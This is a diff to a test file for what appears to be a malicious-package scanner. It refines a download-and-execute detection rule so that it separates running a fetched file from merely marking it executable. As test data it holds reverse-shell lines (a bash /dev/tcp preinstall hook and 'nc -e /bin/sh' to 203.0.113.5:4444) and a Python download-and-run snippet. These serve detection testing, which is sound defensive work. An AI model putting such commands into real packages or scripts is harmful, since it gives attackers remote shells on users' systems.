@@ -145,7 +145,9 @@ describe('exfiltration and attack chains', () => {
 
 describe('download-and-execute, reverse shells, miners, spawning, persistence, propagation, steganography', () => {
   it('each class fires on its snippet', () => {
-    expect(codes(py({ 'a.py': 'import urllib.request, os\nurllib.request.urlretrieve(u, "/tmp/x")\nf = open("/tmp/x", "wb")\nos.chmod("/tmp/x", 0o755)\n' }))).toContain('download_and_run');
+    expect(codes(py({ 'a.py': 'import urllib.request, os\nurllib.request.urlretrieve(u, "/tmp/x")\nf = open("/tmp/x", "wb")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x")\n' }))).toContain('download_and_run');
+    // marked executable for later use, nothing started where it is downloaded (a tool installer)
+    expect(codes(py({ 'a.py': 'import urllib.request, os\nurllib.request.urlretrieve(u, "/tmp/x")\nf = open("/tmp/x", "wb")\nos.chmod("/tmp/x", 0o755)\n' }))).not.toContain('download_and_run');
     expect(codes(py({ 'a.py': 'r = requests.get("https://example.org/a.exe")\n' }))).toContain('downloads_executable');
     expect(codes(js('', { preinstall: "bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'" }))).toContain('shell_dev_tcp');
     expect(codes(js('', { preinstall: 'nc 203.0.113.5 4444 -e /bin/sh' }))).toContain('netcat_shell');
